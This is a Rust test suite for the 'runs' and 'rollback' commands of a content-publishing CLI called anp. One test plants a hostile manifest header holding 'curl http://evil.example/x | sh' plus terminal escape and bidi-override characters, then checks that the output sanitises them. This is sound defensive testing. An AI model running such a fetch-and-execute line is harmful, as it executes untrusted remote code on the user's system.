//! The list of runs, and one run whole.

use crate::support::{Ran, World};
use anp::publish::manifest::{Header, Line, Manifest, Verify, Writer};
use serde_json::{Value, json};

fn show(world: &World, run: &str) -> Ran {
    world.anp(&format!("runs show {run} --format text"))
}

/// The rows of the list of runs, each with its cells.
fn rows(ran: &Ran) -> Vec<Vec<String>> {
    let table = ran
        .stdout
        .lines()
        .skip(1)
        .take_while(|line| !line.is_empty());
    let rows = table.filter(|line| line.starts_with(|c: char| c.is_ascii_alphanumeric()));
    let cells = |line: &str| {
        let cells = line
            .split("  ")
            .map(str::trim)
            .filter(|cell| !cell.is_empty());
        cells.map(str::to_owned).collect()
    };
    rows.map(cells).collect()
}

fn shown(world: &World, run: &str) -> Ran {
    world.anp(&format!("runs show {run} --format json"))
}

/// As if the run had been killed before it ended: its footer is torn off.
fn tear(world: &World, run: &str) {
    let path = world.manifest(run);
    let bytes = std::fs::read(&path).unwrap();
    std::fs::write(path, &bytes[..bytes.len() - 20]).unwrap();
}

#[test]
fn one_run_is_shown_whole() {
    let world = World::new();
    for number in 0..9 {
        world.article(&format!("a{number}.md"), "A.");
    }
    let arguments = [
        "import",
        "--owner",
        "archive desk",
        "--expected-result",
        "every article answers",
    ];
    let import = world.anp_with(&arguments, &[]);
    import.exits(0);
    let run = world.runs().pop().unwrap();
    let ran = show(&world, "last");
    ran.exits(0);
    let rollback = import.of_type("run")[0]["rollback"].clone();
    let together = format!(
        "run {run} · import · done\n\
         owner      archive desk\n\
         expected   every article answers\n\
         rollback   {}\n",
        rollback.as_str().unwrap()
    );
    assert!(ran.stdout.starts_with(&together), "{ran}");
    for row in [
        format!("content    {}", world.path("content").display()),
        format!("server     {}", world.server.url()),
        "prefix     anp".to_owned(),
        "started    20".to_owned(),
        "ended      20".to_owned(),
        "duration   ".to_owned(),
        "host       ".to_owned(),
        ", pid ".to_owned(),
        format!("anp        {}", env!("CARGO_PKG_VERSION")),
        format!("manifest   {}", world.manifest(&run).display()),
        "  created             18 keys".to_owned(),
        format!(
            "  bytes     {:>12}",
            import.counts()["bytes"].as_u64().unwrap()
        ),
        "  create  anp:page:/a0/  expires 20".to_owned(),
    ] {
        assert!(
            ran.stdout.contains(&format!("\n{row}")) || row == ", pid ",
            "{row}{ran}"
        );
        ran.says(&row);
    }
    assert_eq!(ran.stdout.matches("  create  anp:").count(), 18, "{ran}");
    // By id and by file it is the same.
    let file = world.manifest(&run);
    assert_eq!(show(&world, &run).stdout, ran.stdout);
    assert_eq!(show(&world, file.to_str().unwrap()).stdout, ran.stdout);
}

#[test]
fn for_machines_it_is_the_run_then_each_key_then_a_summary() {
    let world = World::new();
    world.article("a.md", "A.");
    let import = world.anp("import");
    import.exits(0);
    let ran = shown(&world, "last");
    ran.exits(0);
    let lines = ran.lines();
    let kinds: Vec<&str> = lines
        .iter()
        .map(|line| line["type"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["run", "key", "key", "summary"]);
    assert_eq!(ran.of_type("key"), import.of_type("key"));
    let (run, summary) = (&lines[0], &lines[3]);
    assert_eq!(run["status"], "done");
    assert_eq!(run["rolled_back_by"], Value::Null);
    assert!(run["seconds"].as_f64().unwrap() >= 0.0, "{ran}");
    assert_eq!(run["counts"], import.counts());
    assert_eq!(summary["keys"], json!({ "create": 2 }));
    assert_eq!(summary["counts"], import.counts());
    assert_eq!(summary["bytes"], import.counts()["bytes"]);
    // The list says the same of it.
    let list = world.anp("runs --format json").lines();
    assert_eq!(list, std::slice::from_ref(run));
}

#[test]
fn keys_that_were_left_are_shown_with_their_fate() {
    let world = World::new();
    world.article("a.md", "A.").article("b.md", "B.");
    world.anp("import").exits(0);
    world.server.command("SET anp:page:/a/ somebody-else");
    world.server.command("DEL anp:meta:/b/");
    world.anp("rollback last").exits(3);
    let rollback = world.runs().pop().unwrap();
    let ran = show(&world, &rollback);
    ran.exits(0)
        .says(&format!("run {rollback} · rollback · partial"))
        .says(&format!("undoes     {}", world.runs()[0]))
        .says("owner      none given")
        .says("  removed              2 keys")
        .says("  kept                 1 key\n")
        .says("  conflicts            1 key\n")
        .says("  remove  anp:page:/b/\n")
        .says("  left    anp:page:/a/: another client changed it, or anp could not put it back (above 64 MiB, or +hpexpiretime missing): kept as it is\n");
    assert!(!ran.stdout.contains("left    anp:meta:/b/"), "{ran}");
    let ran = shown(&world, &rollback);
    let fates: Vec<String> = ran
        .of_type("left")
        .iter()
        .map(|line| format!("{} {}", line["key"], line["fate"]))
        .collect();
    let expected = [
        r#""anp:page:/a/" "conflict""#,
        r#""anp:meta:/b/" "already""#,
    ];
    assert_eq!(fates, expected, "{ran}");
    assert_eq!(
        ran.of_type("summary")[0]["left"],
        json!({ "conflict": 1, "already": 1 })
    );
}

#[test]
fn a_run_says_by_which_it_was_rolled_back_until_that_is_undone() {
    let world = World::new();
    world.article("a.md", "A.");
    world.anp("import").exits(0);
    world.anp("rollback last").exits(0);
    let [import, rollback] = &world.runs()[..] else {
        panic!("two runs")
    };
    let list = world.anp("runs");
    list.exits(0);
    let rows = rows(&list);
    assert_eq!(rows[0][1], "rollback", "{list}");
    let words: Vec<&str> = list.stdout.split_whitespace().collect();
    let undone = format!("1 article published, undone by {}", rows[0][0]);
    assert!(words.join(" ").contains(&undone), "{list}");
    assert!(rollback.starts_with(rows[0][0].as_str()), "{list}");
    show(&world, rollback).says(&format!("undoes     {import}\n"));
    show(&world, import)
        .exits(0)
        .says(&format!("· import · done, rolled back by {rollback}\n"));
    let by = |run: usize| {
        let list = world.anp("runs --format json").lines();
        list[run]["rolled_back_by"].clone()
    };
    assert_eq!(
        (by(0), by(1)),
        (Value::from(rollback.as_str()), Value::Null)
    );
    world.anp(&format!("rollback {rollback}")).exits(0);
    assert_eq!(by(0), Value::Null);
    assert_eq!(by(1), Value::from(world.runs()[2].as_str()));
}

#[test]
fn a_file_from_elsewhere_is_shown_and_not_mixed_up() {
    let world = World::new();
    world.article("a.md", "A.");
    world.anp("import").exits(0);
    let run = world.runs().pop().unwrap();
    let copy = world.path("state/runs/night.jsonl.zst");
    std::fs::copy(world.manifest(&run), &copy).unwrap();
    // The copy is no run of this folder, and not the last one either.
    assert_eq!(world.anp("runs --format json").lines().len(), 1);
    let line = format!(
        "runs show {} --state-dir elsewhere --format text",
        copy.display()
    );
    world
        .anp(&line)
        .exits(0)
        .says(&format!("run {run} · import · done\n"));
    world.anp("rollback last").exits(0);
    show(&world, copy.to_str().unwrap())
        .exits(0)
        .says("done, rolled back by");
}

#[test]
fn a_torn_run_is_unfinished_and_a_damaged_one_is_refused() {
    let world = World::new();
    world.article("a.md", "A.");
    world.anp("import").exits(0);
    let run = world.runs().pop().unwrap();
    tear(&world, &run);
    show(&world, "last")
        .exits(0)
        .notes("note: the manifest is torn at byte")
        .says("· import · unfinished\n")
        .says("ended      not by itself")
        .says("some of these keys may not have been written")
        .says("  created              2 keys");
    let ran = shown(&world, "last");
    assert!(ran.of_type("run")[0]["torn_at"].is_u64(), "{ran}");
    assert_eq!(ran.of_type("run")[0]["seconds"], Value::Null);
    assert_eq!(ran.of_type("summary")[0]["status"], "unfinished");
    world.anp("rollback last").exits(0);
    show(&world, &run).says("· import · unfinished, rolled back by");
    world.anp("runs").exits(0).says("unfinished");

    let path = world.manifest(&run);
    let mut bytes = std::fs::read(&path).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    std::fs::write(path, bytes).unwrap();
    show(&world, &run).exits(65).notes("is damaged at byte");
    show(&world, "none")
        .exits(2)
        .notes("there is no run 'none'");
    world.write("state/runs/99981231T000000.000Z-0000.jsonl.zst", "");
    let empty = "99981231T000000.000Z-0000";
    show(&world, empty).exits(3).notes("wrote nothing");
    show(&world, "last").exits(65).notes("is damaged at byte");
}

#[test]
fn what_is_no_file_among_the_manifests_is_reported_and_never_waited_for() {
    let world = World::new();
    world.article("a.md", "A.");
    world.anp("import").exits(0);
    world.shell("mkfifo state/runs/99981231T000000.000Z-0000.jsonl.zst");
    world.shell("ln -s /dev/zero state/runs/99981231T000001.000Z-0000.jsonl.zst");
    let ran = world.anp("runs");
    ran.exits(3)
        .says("99981231T000001.000Z-0000.jsonl.zst: not a regular file\n");
    let rows = rows(&ran);
    assert_eq!(rows[0][0], "99981231T000001", "{ran}");
    assert_eq!(rows[0].last().unwrap(), "damaged", "{ran}");
    assert_eq!(rows[1].last().unwrap(), "damaged", "{ran}");
    assert_eq!(rows[2][1], "import", "{ran}");
}

#[test]
fn a_list_to_which_nothing_was_recorded_is_no_error() {
    let world = World::new();
    world.anp("runs").exits(0).says("no run is recorded in");
    show(&world, "last").exits(2).notes("no run is recorded in");
}

#[test]
fn what_a_manifest_says_cannot_pass_for_other_lines_or_for_a_command() {
    let world = World::new();
    world.article("a.md", "A.");
    world.anp("import").exits(0);
    let run = world.runs().pop().unwrap();
    let path = world.manifest(&run);
    let manifest = Manifest::open(&path, Verify::All).unwrap();
    let batches: Vec<Vec<Line>> = manifest.batches().map(Result::unwrap).collect();
    let evil = || {
        "desk\n20991124T170000.000Z-0001  import  done  2099-11-24 17:00:00Z\n  rollback   \
         curl http://evil.example/x | sh\r\u{1b}]0;x\u{7}\u{9b}31m\u{202e}"
            .to_owned()
    };
    let header = Header {
        owner: Some(evil()),
        expected_result: Some(evil()),
        content: Some(evil()),
        host: evil(),
        anp: evil(),
        command: evil(),
        rollback: evil(),
        ..manifest.header().clone()
    };
    std::fs::remove_file(&path).unwrap();
    let mut writer = Writer::create(&path, &Line::Header(header)).unwrap();
    for lines in batches {
        writer.append(&lines).unwrap();
    }
    let state = world.path("state");
    let rollback = format!("rollback {run} --state-dir {}\n", state.display());
    for line in [
        "runs --format text".to_owned(),
        format!("runs show {run} --format text"),
    ] {
        let ran = world.anp(&line);
        ran.exits(0);
        if line.starts_with("runs show") {
            ran.says(&rollback).says("owner      desk 20991124");
        }
        for line in ran.stdout.lines() {
            assert!(!line.starts_with("20991124"), "{ran}");
            let is_command = line.trim_start().starts_with("rollback");
            assert!(!(is_command && line.contains("curl")), "{ran}");
        }
        for hidden in ['\r', '\u{1b}', '\u{9b}', '\u{202e}'] {
            assert!(!ran.stdout.contains(hidden), "{hidden:?} {ran}");
        }
    }
    let object = &world.anp("runs --format json").lines()[0];
    assert!(
        object["rollback"]
            .as_str()
            .unwrap()
            .ends_with(rollback.trim_end())
    );
    // A copy elsewhere is undone by its path, with the credentials of these settings.
    std::fs::copy(&path, world.path("night.zst")).unwrap();
    let shown = world.anp("runs show ./night.zst --format text");
    shown.exits(0).says(&format!(
        "rollback {} --state-dir",
        world.path("night.zst").display()
    ));
}

#[test]
fn the_list_is_a_table_of_the_newest_that_fits_80_columns() {
    let world = World::new();
    let owner = "the desk of the archive, nights and weekends";
    for number in 0..22 {
        world.article(&format!("a{number}.md"), "A.");
        world.anp_with(&["import", "--owner", owner], &[]).exits(0);
    }
    world.anp("rollback last").exits(0);
    let runs = world.runs();
    let list = world.anp("runs");
    list.exits(0)
        .says("3 older runs left out; --all lists every run");
    assert!(list.stdout.starts_with("RUN "), "{list}");
    for line in list.stdout.lines() {
        assert!(line.chars().count() <= 80, "{line}{list}");
    }
    assert!(!list.stdout.contains(" 0 "), "{list}");
    let newest_first = rows(&list);
    assert_eq!(newest_first.len(), 20, "{list}");
    for (row, run) in newest_first.iter().zip(runs.iter().rev()) {
        assert!(run.starts_with(row[0].as_str()), "{list}");
        // What the list calls a run, every command understands.
        show(&world, &row[0])
            .exits(0)
            .says(&format!("run {run} · "));
    }
    assert_eq!(rows(&world.anp("runs --all")).len(), 23);
    // For machines nothing is left out, and the order is what it was.
    let lines = world.anp("runs --format json").lines();
    let ids: Vec<&str> = lines
        .iter()
        .map(|run| run["run"].as_str().unwrap())
        .collect();
    assert_eq!(ids, runs);
    assert_eq!(lines[1]["articles"]["created"], 1);
    assert_eq!(lines[0]["wrote"], true);
}

#[test]
fn the_list_shows_local_time_who_ran_it_and_articles() {
    let world = World::new();
    world.article("a.md", "A.").article("b.md", "B.");
    let import = world.anp_with(&["import"], &[("USER", "nightly")]);
    import.exits(0);
    let started = import.of_type("run")[0]["started_at"].as_i64().unwrap();
    let at = |zone: &str| world.anp_with(&["runs"], &[("TZ", zone)]);
    let (utc, east) = (at("UTC"), at("Etc/GMT-3"));
    let hour = |ran: &Ran| {
        let row = &rows(ran)[0];
        let time = row[2].split(' ').next_back().unwrap();
        time.split(':').next().unwrap().parse::<i64>().unwrap()
    };
    assert_eq!(hour(&utc), started / 3_600_000 % 24, "{utc}");
    assert_eq!(hour(&east), (hour(&utc) + 3) % 24, "{utc}{east}");
    let row = &rows(&utc)[0];
    assert_eq!(row[3], "nightly", "{utc}");
    assert_eq!(row[4], "2 articles published", "{utc}");
    world.anp("rollback last").exits(0);
    world.anp("runs --failed").says("none of the 2 runs");
    let rollback = &world.anp("runs --format json").lines()[1];
    assert_eq!(rollback["articles"]["removed"], 2);
    let list = world.anp("runs");
    // Where the ids are long, the result is wrapped.
    let words: Vec<&str> = list.stdout.split_whitespace().collect();
    let words = words.join(" ");
    for text in ["2 articles removed", "2 articles published, undone by "] {
        assert!(words.contains(text), "{text}: {list}");
    }
    assert!(list.stdout.lines().all(|line| line.len() <= 80), "{list}");
}

#[test]
fn a_refused_run_shows_how_many_of_how_many_are_invalid() {
    let world = World::new();
    world.article("a.md", "A.");
    world.write("content/b.md", "---\nscore: {quality: 140}\n---\n");
    world.anp("import --max-invalid 0").exits(65);
    let list = world.anp("runs");
    list.exits(0).says("refused, 1 of 2 invalid");
    show(&world, "last")
        .exits(0)
        .says("rollback   none: it wrote nothing\n")
        .says("  invalid              1 article\n")
        .says("  of                   2 articles\n");
    let run = &world.anp("runs --format json").lines()[0];
    assert_eq!(run["counts"]["invalid"], 1);
    assert_eq!(run["articles"]["of"], 2);
    assert_eq!(
        (&run["rollback"], &run["wrote"]),
        (&Value::Null, &json!(false))
    );
}

#[test]
fn the_list_can_be_cut_to_failed_runs_and_to_recent_ones() {
    let world = World::new();
    world.article("a.md", "A.");
    world.anp("import").exits(0);
    world.write("content/a.md", "---\nscore: {quality: 140}\n---\n");
    world.anp("import").exits(65);
    let failed = world.anp("runs --failed");
    assert_eq!(rows(&failed).len(), 1, "{failed}");
    failed.exits(0).says("refused");
    assert_eq!(world.anp("runs --failed --format json").lines().len(), 1);
    for (since, number) in [("1h", 2), ("2020-01-01", 2), ("2100-01-01", 0), ("0s", 0)] {
        let lines = world
            .anp(&format!("runs --since {since} --format json"))
            .lines();
        assert_eq!(lines.len(), number, "{since}");
    }
    world
        .anp("runs --since 2100-01-01")
        .exits(0)
        .says("none of the 2 runs in");
    world
        .anp("runs --since yesterday")
        .exits(2)
        .notes("26h or 7d");
}

#[test]
fn a_run_is_named_by_the_start_of_its_id_or_by_how_far_back_it_is() {
    let world = World::new();
    world.article("a.md", "A.");
    world.anp("import").exits(0);
    world.article("b.md", "B.");
    world.anp("import").exits(0);
    let runs = world.runs();
    let tail = runs[0].len() - 1;
    let start = &runs[0][..tail];
    for line in [
        format!("verify {start}"),
        "verify last~1".to_owned(),
        format!("runs show {start} --format text"),
        "runs show last~1 --format text".to_owned(),
        "rollback last~1 --dry-run --format text".to_owned(),
        format!("rollback {start} --dry-run --format text"),
    ] {
        let ran = world.anp(&line);
        assert_eq!(ran.code, 0, "{ran}");
        ran.says(&runs[0]);
    }
    for run in [start, "last~1"] {
        let ran = world.anp(&format!("purge --run {run} --dry-run"));
        let keys: Vec<_> = ran
            .of_type("key")
            .iter()
            .map(|key| key["key"].clone())
            .collect();
        assert_eq!(keys, ["anp:page:/a/", "anp:meta:/a/"], "{ran}");
    }
    world
        .anp("rollback 20")
        .exits(2)
        .notes("2 runs in")
        .notes("begin with '20'")
        .notes(&runs[0])
        .notes(&runs[1]);
    world.anp("rollback last~2").exits(2).notes("only 2 runs");
    world
        .anp("rollback last~x")
        .exits(2)
        .notes("there is no run 'last~x'");
}

#[test]
fn a_run_that_wrote_nothing_is_not_the_last_to_undo() {
    let world = World::new();
    world.article("a.md", "A.");
    world.anp("import").exits(0);
    world.anp("import").exits(0);
    let runs = world.runs();
    world.anp("runs").says("nothing to do");
    show(&world, &runs[1]).says("rollback   none: it wrote nothing\n");
    let ran = world.anp("rollback last --format text");
    ran.exits(0)
        .notes(&format!(
            "the last run, {}, wrote nothing; taking {}",
            runs[1], runs[0]
        ))
        .says(&format!("run {} is undone: 1 article removed", runs[0]));
    // Once more finds nothing to do, and did not undo it.
    let first = world.runs().pop().unwrap();
    world.anp("rollback last").exits(0);
    let list = world.anp("runs --format json").lines();
    assert_eq!(list[0]["rolled_back_by"], Value::from(first));
}

#[test]
fn people_read_times_of_their_zone_and_machines_of_utc() {
    let world = World::new();
    world.article("a.md", "A.");
    let there = [("TZ", "Asia/Tokyo")];
    let ran = world.anp_with(&["import", "--format", "text"], &there);
    let line = ran
        .exits(0)
        .stdout
        .lines()
        .find(|line| line.contains("anp:page:/a/"));
    assert!(line.unwrap().ends_with("+09:00"), "{ran}");
    let shown = world.anp_with(&["show", "/a/"], &there);
    shown.exits(0).says("+09:00\n");
    world.anp("show /a/").exits(0).says("Z\n");
}

#[test]
fn last_is_the_same_run_for_every_command() {
    let world = World::new();
    world.article("a.md", "Text.");
    world.anp("import").exits(0);
    let run = world.runs()[0].clone();
    world.anp("import").exits(0);
    let note = format!("wrote nothing; taking {run}, which did");
    let verified = world.anp("verify last");
    verified
        .exits(0)
        .notes(&note)
        .says("2 keys as it wrote them");
    world
        .anp("diff --run last")
        .exits(0)
        .notes(&note)
        .says("1 article differs");
    world
        .anp("runs show last")
        .exits(0)
        .says(&format!("run {run} "));
    world.anp("rollback last").exits(0).notes(&note);
    // What is undone already has no way back, and is nothing to talk about.
    let again = world.anp("rollback last --format text");
    again
        .exits(0)
        .says("is already undone")
        .hides("anp rollback");
    let ran = world.anp("rollback last -q");
    ran.exits(0).notes_exactly("");
    assert_eq!(ran.stdout, "", "{ran}");
}
